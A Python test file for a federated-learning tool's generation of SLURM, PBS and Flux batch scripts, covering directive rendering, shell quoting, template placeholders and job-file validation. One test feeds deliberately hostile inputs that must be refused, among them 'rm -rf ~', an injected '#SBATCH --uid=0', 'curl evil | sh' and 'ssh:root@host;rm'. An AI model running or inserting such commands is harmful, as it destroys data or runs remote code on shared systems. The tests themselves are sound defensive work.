"""The job file's sites: what is refused before anything runs, and the scripts fedfleet writes from them.

Every value of a site lands in a shell script run on the facility, so the checks here are those of a hostile or
mistyped job file: a value with a line break, a name that is not a word, a template that names a placeholder that
does not exist or forgets the party's line. Submission itself runs against real SLURM clusters in
tests/hpc/slurm/test_sites_run.py.
"""

from __future__ import annotations

import shlex
import subprocess
import sys
from pathlib import Path

import pytest

from fedfleet.config import load_job
from fedfleet.errors import ConfigError
from fedfleet.hpc.sites import Site
from fedfleet.hpc.sites.script import RoundJob, render
from fedfleet.hpc.sites.submit import SlurmSubmitter, scheduler_environment, submitter_for
from tests.paths import ROOT

JOB = """\
name: sites
rounds: 2
cohort: 2
model: {name: mlp, hidden: [8]}
data: {dataset: digits, clients: 2}
runtime: {kind: files, exchange: ex}
network: {parties: [alpha, beta]}
"""


def script(site: Site, rnd: int = 3, options=()) -> str:
    return render(site, RoundJob("/jobs/job.yaml", rnd, options), log="/logs/r-%j.out", workdir="/work dir",
                  python="/venv/bin/python")  # fmt: skip


def test_a_slurm_site_gets_its_directives_environment_setup_and_an_srun_line_for_several_ranks():
    site = Site("alpha", partition="gpu", account="proj1", nodes=2, tasks_per_node=4, gpus_per_node=4,
                cpus_per_task=8, time="1-02:00:00", directives=("--exclusive",), setup=("module load cuda",),
                env={"NCCL_DEBUG": "WARN", "ODD": "a b'c $HOME"})  # fmt: skip
    text = script(site, options=["--set", "client.lr=0.1"])
    lines = text.splitlines()
    assert lines[0] == "#!/bin/bash"
    for directive in ("--job-name=fedfleet-alpha-r3", "--output=/logs/r-%j.out", "--nodes=2", "--ntasks-per-node=4",
                      "--time=1-02:00:00", "--partition=gpu", "--account=proj1", "--gpus-per-node=4",
                      "--cpus-per-task=8", "--exclusive"):  # fmt: skip
        assert f"#SBATCH {directive}" in lines
    assert "export HF_HUB_OFFLINE=1" in lines and "export HF_DATASETS_OFFLINE=1" in lines  # offline by default
    assert "module load cuda" in lines and "cd '/work dir'" in lines
    assert lines[-1] == ("srun /venv/bin/python -m fedfleet.cli.main party /jobs/job.yaml --name alpha --round 3 "
                         "--set client.lr=0.1")  # fmt: skip
    odd = next(line for line in lines if line.startswith("export ODD="))
    out = subprocess.run(["bash", "-c", f'{odd}; printf %s "$ODD"'], capture_output=True, text=True, check=True)
    assert out.stdout == "a b'c $HOME"  # quoted: the shell neither splits nor expands it


def test_one_rank_runs_without_a_launcher_and_offline_can_be_turned_off():
    text = script(Site("alpha", offline=False))
    assert text.splitlines()[-1].startswith("/venv/bin/python -m fedfleet.cli.main party")
    assert "HF_HUB_OFFLINE" not in text


@pytest.mark.parametrize(
    "scheduler, expected",
    [
        ("pbs", ["#PBS -N fedfleet-alpha-r3", "#PBS -l select=2:mpiprocs=4:ngpus=4", "#PBS -l walltime=26:00:00",
                 "#PBS -q gpu", "#PBS -A proj1"]),
        ("flux", ["# flux: -N 2", "# flux: -n 8", "# flux: -t 93600s", "# flux: --queue=gpu", "# flux: --bank=proj1"]),
    ],
)  # fmt: skip
def test_pbs_and_flux_scripts_come_from_the_same_template(scheduler, expected):
    site = Site("alpha", scheduler=scheduler, partition="gpu", account="proj1", nodes=2, tasks_per_node=4,
                gpus_per_node=4, time="1-02:00:00")  # fmt: skip
    lines = script(site).splitlines()
    for line in expected:
        assert line in lines
    launcher = {"pbs": "mpiexec", "flux": "flux run"}[scheduler]
    assert lines[-1].startswith(f"{launcher} /venv/bin/python")


@pytest.mark.parametrize(
    "field, value",
    [
        ("setup", ("echo ok\nrm -rf ~",)),
        ("directives", ("--exclusive\n#SBATCH --uid=0",)),
        ("env", {"A": "x\ncurl evil | sh"}),
        ("workdir", "/tmp\r/x"),
        ("python", "python\0"),
    ],
)
def test_a_value_with_a_line_break_is_refused(field, value):
    with pytest.raises(ValueError, match="line break"):
        Site("alpha", **{field: value})


@pytest.mark.parametrize(
    "kwargs, key",
    [
        ({"name": "../alpha"}, "name"),
        ({"partition": "gpu --uid=0"}, "partition"),
        ({"time": "2 hours"}, "time"),
        ({"reach": "ssh:root@host;rm"}, "reach"),
        ({"env": {"NOT-A-NAME": "1"}}, "env"),
        ({"nodes": 0}, "nodes"),
    ],
)
def test_names_times_and_counts_are_checked(kwargs, key):
    with pytest.raises(ValueError, match=key):
        Site(**{"name": "alpha", **kwargs})


def test_a_site_template_is_substituted_and_its_mistakes_named(tmp_path):
    good = tmp_path / "good.sh"
    good.write_text("#!/bin/bash\n@{directives}\nexport SITE_ROUND=@{round} COST=$$ PRICE=@@5\n@{command}\n")
    text = script(Site("alpha", template=str(good)))
    assert "export SITE_ROUND=3 COST=$$ PRICE=@5" in text  # the shell's $ untouched, @@ a literal @
    unknown = tmp_path / "unknown.sh"
    unknown.write_text("#!/bin/bash\n@{partitions}\n@{command}\n")
    with pytest.raises(ConfigError, match=r"unknown placeholder @\{partitions\}; known: @\{directives\}"):
        script(Site("alpha", template=str(unknown)))
    silent = tmp_path / "silent.sh"
    silent.write_text("#!/bin/bash\n@{directives}\necho hi\n")
    with pytest.raises(ConfigError, match=r"has no @\{command\}"):
        script(Site("alpha", template=str(silent)))
    with pytest.raises(ConfigError, match="cannot read"):
        script(Site("alpha", template=str(tmp_path / "missing.sh")))


def test_the_job_file_refuses_sites_that_are_not_parties_or_on_ray(tmp_path):
    path = tmp_path / "job.yaml"
    path.write_text(JOB + "sites:\n  - {name: alpha}\n  - {name: gamma}\n")
    with pytest.raises(ConfigError, match=r"gamma not in network.parties \(alpha, beta\)"):
        load_job(path)
    on_ray = JOB.replace("runtime: {kind: files, exchange: ex}", "runtime: {kind: ray}")
    path.write_text(on_ray + "sites:\n  - {name: alpha}\n")
    with pytest.raises(ConfigError, match="sites are parties of a deployed session"):
        load_job(path)
    path.write_text(JOB + "sites:\n  - {name: alpha, partiton: gpu}\n")
    with pytest.raises(ConfigError, match=r"sites\[0\].partiton: unknown key \(did you mean 'partition'\?\)"):
        load_job(path)
    path.write_text(JOB + "sites:\n  - {name: alpha, scheduler: lsf}\n")
    with pytest.raises(ConfigError, match="scheduler"):
        load_job(path)


def test_only_slurm_sites_are_submitted_to_and_the_others_are_told_why():
    assert isinstance(submitter_for(Site("alpha")), SlurmSubmitter)
    with pytest.raises(ConfigError, match="submits only to slurm"):
        submitter_for(Site("alpha", scheduler="pbs"))


def test_a_site_over_ssh_needs_its_remote_folder_and_local_sites_take_no_ssh_keys():
    with pytest.raises(ValueError, match="remote_dir: a site reached over SSH needs the absolute path"):
        Site("alpha", reach="ssh:me@login.example.org")
    with pytest.raises(ValueError, match="remote_dir: a site reached over SSH needs the absolute path"):
        Site("alpha", reach="ssh:me@login.example.org", remote_dir="~/fed")  # quoted: ~ would not expand
    with pytest.raises(ValueError, match="ssh_key applies to reach: ssh:user@host only"):
        Site("alpha", ssh_key="~/.ssh/id_ed25519")
    site = Site("alpha", reach="ssh:me@login.example.org:2222", remote_dir="/scratch/me/fed",
                ssh_options=("ProxyJump=gateway",))  # fmt: skip
    assert site.remote_dir == "/scratch/me/fed"


def test_the_submit_commands_drop_an_enclosing_jobs_slurm_variables_and_take_the_sites():
    enclosing = {"PATH": "/bin", "SLURM_JOB_ID": "7", "SBATCH_ACCOUNT": "x", "SLURM_CONF": "/a"}
    env = scheduler_environment(Site("alpha", scheduler_env={"SLURM_CONF": "/b/slurm.conf"}), enclosing)
    assert env == {"PATH": "/bin", "SLURM_CONF": "/b/slurm.conf"}


def test_sites_render_prints_a_script_bash_can_parse(tmp_path):
    path = tmp_path / "job.yaml"
    path.write_text(JOB + "sites:\n  - {name: alpha, partition: gpu, tasks_per_node: 2}\n  - {name: beta}\n")
    done = subprocess.run([sys.executable, "-m", "fedfleet.cli.main", "sites", "render", str(path), "--site", "alpha",
                           "--round", "2", "--set", "client.lr=0.05"], cwd=tmp_path, capture_output=True, text=True,
                          env={"PYTHONPATH": str(ROOT), "PATH": "/usr/bin:/bin"})  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert "#SBATCH --partition=gpu" in done.stdout and "--round 2 --set client.lr=0.05" in done.stdout
    assert shlex.quote(str(path.resolve())) in done.stdout
    (tmp_path / "alpha.sh").write_text(done.stdout)
    assert subprocess.run(["bash", "-n", str(tmp_path / "alpha.sh")]).returncode == 0
    bad = subprocess.run([sys.executable, "-m", "fedfleet.cli.main", "sites", "render", str(path), "--round", "9"],
                         cwd=tmp_path, capture_output=True, text=True, env={"PYTHONPATH": str(ROOT)})  # fmt: skip
    assert bad.returncode == 2 and "--round 9 is not a round of this job (1 to 2)" in bad.stderr
    assert Path(tmp_path / "ex").exists() is False  # rendering publishes nothing


def test_sites_render_of_a_grpc_session_is_one_job_for_every_round(tmp_path):
    path = tmp_path / "job.yaml"
    grpc = JOB.replace("runtime: {kind: files, exchange: ex}\n", "")
    grpc = grpc.replace("network: {parties", "network: {certs: c, parties")
    path.write_text(grpc + "sites:\n  - {name: alpha}\n")
    argv = [sys.executable, "-m", "fedfleet.cli.main", "sites", "render", str(path)]
    env = {"PYTHONPATH": str(ROOT), "PATH": "/usr/bin:/bin"}
    done = subprocess.run(argv, cwd=tmp_path, capture_output=True, text=True, env=env)
    assert done.returncode == 0, done.stderr
    assert "#SBATCH --job-name=fedfleet-alpha\n" in done.stdout and "session-%j.out" in done.stdout
    assert done.stdout.rstrip().endswith("--name alpha")  # no --round: its party answers the whole session
